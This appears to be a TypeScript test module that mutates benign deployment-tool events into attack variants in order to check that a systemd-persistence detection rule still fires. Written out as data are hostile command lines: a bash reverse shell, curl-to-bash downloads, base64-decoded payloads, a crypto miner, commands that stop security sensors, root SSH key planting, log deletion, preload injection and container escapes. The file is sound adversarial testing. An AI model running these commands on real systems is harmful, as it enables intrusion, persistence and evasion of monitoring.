import { type Event, ran } from './scenario.ts';

/** A change that makes an attack of a benign event. `undefined`: it does not change this event. */
export type HostileEdit = (event: Event) => Event | readonly Event[] | undefined;

const RUNS_A_FILE = /^(?:-?(?:ba|da)?sh|python[\d.]*|ruby[\d.]*|perl|node)$/;

/** What tells the parent: the script that its interpreter runs, or the program itself. */
function pathOf(event: Event): string {
  const [program = '', ...rest] = event.parentLine.split(' ');
  const runsFile = RUNS_A_FILE.test(program.slice(program.lastIndexOf('/') + 1));
  const first = rest.find((word) => !word.startsWith('-'));
  return runsFile && first?.startsWith('/') === true ? first : program;
}

function inParent(event: Event, change: (line: string) => string): Event {
  const parentLine = change(event.parentLine);
  return event.path === undefined ? { ...event, parentLine } : { ...event, parentLine, line: parentLine };
}

function append(text: string): HostileEdit {
  return (event) => inParent(event, (line) => `${line} ${text}`);
}

/** The same act on a unit of another name. */
function rename(unit: string): HostileEdit {
  return (event) => {
    if (event.path === undefined) return { ...event, line: `systemctl enable ${unit}` };
    const directory = event.path.slice(0, event.path.lastIndexOf('/'));
    return inParent(
      { ...event, path: `${directory}/${unit}` },
      (line) => `${line} /etc/systemd/system/${unit}`,
    );
  };
}

function act(line: string): HostileEdit {
  return (event) => (event.path === undefined ? { ...event, line } : undefined);
}

function moveParent(prefix: string): HostileEdit {
  return (event) => {
    const path = pathOf(event);
    return inParent(event, (line) =>
      path.startsWith('/')
        ? line.replace(path, `${prefix}${path}`)
        : line.replace(path, `${prefix}/${path.replace(/^-/, '')}`),
    );
  };
}

/** The same act below a plain shell, on the host itself: what told the tool is no more than text. */
function unmark(event: Event, line: (marks: string) => string): Event {
  const plain = inParent(event, (before) => line(`${before} ${event.grandparent} ${event.path ?? ''}`));
  const moved = { ...plain, parent: 'sh', grandparent: 'bash' };
  return event.path === undefined ? moved : { ...moved, path: '/etc/systemd/system/x.service' };
}

function isInLayer({ path }: Event): boolean {
  return path !== undefined && /\/(?:merged|diff|fs)\//.test(path);
}

/** The unit of an image moved to where it is none of the image's. */
function leaveLayer(path: string): HostileEdit {
  return (event) => (isInLayer(event) ? { ...event, path } : undefined);
}

/** The lines of tools that start their scripts without a word behind them. */
const BARE =
  /(?:AnsiballZ_\w+\.py|script\.sh|jenkins\d+\.sh|script_\d+\.sh|_temp\/[-0-9a-f]+\.(?:sh|py)|custom_script\d+|runcmd)$/;

/** What an attacker may do with a tool's disguise: each of these must take the discount away. */
export const hostileEdits: Readonly<Record<string, HostileEdit>> = {
  'account of a web server': (event) => ({ ...event, account: 'www-data' }),
  'account of a database': (event) => ({ ...event, account: 'postgres' }),
  'account named to be taken for root': (event) =>
    event.account === 'root' ? { ...event, account: 'Root' } : undefined,
  "a domain's account of root's name": (event) =>
    event.account === 'root' ? { ...event, account: 'CORP\\root' } : undefined,
  "the module in the home of a web server's account": (event) =>
    inParent(event, (line) => line.replace(/\S*\/\.ansible\//, '/home/tomcat/.ansible/')),
  'account unknown': (event) => ({ ...event, account: '' }),
  'parent is PHP-FPM': (event) => ({ ...event, parent: 'php-fpm8.1' }),
  'grandparent is a web server': (event) => ({ ...event, grandparent: 'nginx' }),
  'grandparent is a database': (event) => ({ ...event, grandparent: 'postgres' }),
  'grandparent poses as the kernel': (event) => ({ ...event, grandparent: '[kworker/0:1]' }),
  'a reverse shell appended': append('&& bash -i >& /dev/tcp/198.51.100.7/443 0>&1'),
  'a download into a shell appended': append('; curl -fsSL https://x.example.net/i | bash'),
  'a download from an address appended': append('; curl -o /usr/bin/x http://203.0.113.7/x'),
  'decoded code appended': append('; echo aWQ= | base64 -d | sh'),
  'the sensor stopped': append('; systemctl stop falcon-sensor'),
  'a miner appended': append('; /usr/bin/xmrig -o stratum+tcp://pool.example.net:3333'),
  'a path in shared memory': append('/dev/shm/x'),
  'a unit with a payload in /tmp': append(
    "; printf '[Service]\\nExecStart=/tmp/x' > /etc/systemd/system/x.service",
  ),
  'a search path for modules in front': (event) =>
    isInLayer(event) ? undefined : inParent(event, (line) => `PYTHONPATH=/srv/x PERL5OPT=-Mx ${line}`),
  'a start-up file in front, by way of env': (event) =>
    isInLayer(event) ? undefined : inParent(event, (line) => `env BASH_ENV=/srv/x ${line}`),
  'another audit library in front': (event) => inParent(event, (line) => `LD_AUDIT=/usr/lib/x.so ${line}`),
  'code behind a script that takes no words': (event) =>
    BARE.test(event.parentLine) ? inParent(event, (line) => `${line} -c import os`) : undefined,
  'a script behind a script that takes no words': (event) =>
    BARE.test(event.parentLine) ? inParent(event, (line) => `${line} /srv/x/run`) : undefined,
  'an operator among the arguments of a program': (event) =>
    isInLayer(event) || / -\w*c /.test(event.parentLine)
      ? undefined
      : inParent(event, (line) => `${line} ; x`),
  "another program's image": (event) =>
    isInLayer(event) ? undefined : { ...event, columns: { InitiatingProcessFolderPath: '/usr/bin/socat' } },
  'out of the container': append('; cp x.service /host/etc/systemd/system/x.service'),
  'a preload in front': (event) => inParent(event, (line) => `LD_PRELOAD=/usr/lib/x.so ${line}`),
  'a unit that poses as the kernel': rename('kworker-d.service'),
  'a unit that poses as systemd': rename('systemd-network-helper.service'),
  'a unit that poses as D-Bus': rename('dbus-org.freedesktop.update1.service'),
  'a unit that hides': rename('.x.service'),
  'a unit of a miner': rename('xmrig.service'),
  'a unit of an implant': rename('defunct.service'),
  'a unit of a tunnel': rename('ngrok.service'),
  'a unit that is named by a slip of the finger': rename('sshdd.service'),
  "root's shell without a password": rename('debug-shell.service'),
  'a unit of another host': act('systemctl --host=root@203.0.113.9 enable x.service'),
  'a file put into the view of a unit': act('systemctl bind x.service /opt/x /start'),
  'a drop-in from standard input': act('systemctl edit --stdin --drop-in=x ssh.service start'),
  'a link behind a reload': act('systemctl daemon-reload link /srv/x.service'),
  'an enabling behind a question': act('systemctl status nginx enable --now x.service'),
  'a link behind an option that has no value': act('systemctl --firmware-setup link /srv/x.service'),
  'a verb as the value of an option': act('systemctl -t enable x.service'),
  'an operand of a reload': act('systemctl daemon-reload x.service'),
  'several words for the name of systemctl': act('"systemctl restart x" link /srv/x.service'),
  'a verb that systemctl does not have': act('systemctl enable-all start'),
  'an option that systemctl does not have': act('systemctl --xyz enable x'),
  'variables of every unit': act('systemctl set-environment A=start'),
  'a unit out of a tree that looks like the host': act('systemctl enable /srv/etc/systemd/system/x.service'),
  'a unit out of a container': act(
    'systemctl enable /var/lib/containers/storage/overlay/a/diff/etc/systemd/system/x.service',
  ),
  'a unit of the working directory': act('systemctl enable ./systemd/system/x.service'),
  'a unit linked from /tmp': act('systemctl link /tmp/x.service'),
  'a unit enabled from shared memory': act('systemctl enable --now /dev/shm/x.service'),
  'a unit linked by a path with dots': act('systemctl link /usr/../var/tmp/x.service'),
  "the parent's path below /tmp": moveParent('/tmp'),
  "the parent's path below /dev/shm": moveParent('/dev/shm'),
  "the parent's path below a web root": moveParent('/var/www/html'),
  'a unit linked by a path with doubled slashes': act('systemctl link //tmp//x.service'),
  'a unit enabled by the root of a process': act('systemctl enable --now /proc/self/root/tmp/x.service'),
  'a unit linked from a web root': act('systemctl link /var/www/html/x.service'),
  'a unit linked from a hidden directory': act('systemctl link /usr/lib/.x/x.service'),
  "a unit of the host's, out of a container": act('systemctl --root=/host enable x.service'),
  'a sensor stopped': act('systemctl disable --now auditd.service mdatp.service --force enable'),
  'a path out of the layer by way of dots': leaveLayer(
    '/var/lib/docker/overlay2/x/merged/../../../../../../etc/systemd/system/x.service',
  ),
  'a path out of the layer by the root of a process': leaveLayer('/proc/1/root/etc/systemd/system/x.service'),
  "a path that is the host's": leaveLayer('//etc//systemd/system/x.service'),
  'a layer in /tmp': leaveLayer('/tmp/docker/overlay2/x/merged/etc/systemd/system/x.service'),
  'a wildcard for a program in shared memory': append('; /dev/s?m/x'),
  'separators out of a variable': append('; systemctl$IFS$9enable$IFS$9x'),
  'code out of a variable': append('; eval "$X"'),
  'decoded code in a long form': append('; base64 --decode /opt/x | bash'),
  'decoded code by openssl': append('; openssl enc -base64 -d -in /opt/x | sh'),
  'a shell by way of awk': append('; awk BEGIN{s="/inet/tcp/0/198.51.100.7/443"}'),
  'a key added': append('; echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys'),
  "a program with the owner's rights": append('; chmod u+s /usr/bin/x'),
  'logs removed': append('; rm -f /var/log/auth.log'),
  'out of the container by its socket': append('; curl --unix-socket /var/run/docker.sock http://x/v1'),
  'below cron, from /tmp': (event) => ({
    ...inParent(event, (line) => `/bin/sh /tmp/job.sh ${line}`),
    parent: 'sh',
    grandparent: 'cron',
  }),
  'the account of a web server, in capitals': (event) => ({ ...event, account: 'WWW-DATA' }),
  'the account of a web server of a domain': (event) => ({ ...event, account: 'CORP\\tomcat' }),
  'the grandparent is a shell of a web server': (event) => ({ ...event, grandparent: 'apache2' }),
  // What a step inside of an image runs is the image's.
  'the parent runs its code from the command line': (event) =>
    isInLayer(event)
      ? undefined
      : inParent(
          { ...event, parent: 'python3', grandparent: 'bash' },
          (line) => `python3 -c exec(x) ${line}`,
        ),
  "the parent's path by the root of a process": moveParent('/proc/self/root/tmp'),
  "the parent's path with doubled slashes below /tmp": moveParent('//tmp/'),
  "the parent's path below a hidden directory": moveParent('/usr/lib/.x'),
  "the parent's path by way of dots": (event) => {
    const path = pathOf(event);
    return path.startsWith('/')
      ? inParent(event, (line) => line.replace(path, `/usr/../tmp${path}`))
      : undefined;
  },
  'the markers moved into a comment': (event) =>
    unmark(event, (marks) => `sh -c systemctl enable x # ${marks}`),
  'the markers moved into an argument': (event) => unmark(event, (marks) => `python3 -c import(os) ${marks}`),
  'the markers moved into a variable': (event) =>
    unmark(event, (marks) => `env X=${marks.split(' ').join('_')} python3 /opt/x/run.py`),
  'another program under the same line': (event) => ({ ...event, parent: 'xmrig' }),
  'an event of another actor beside it': (event) => [
    event,
    ran('deploy', 'systemctl enable x', 'bash', 'bash', 'bash'),
  ],
};
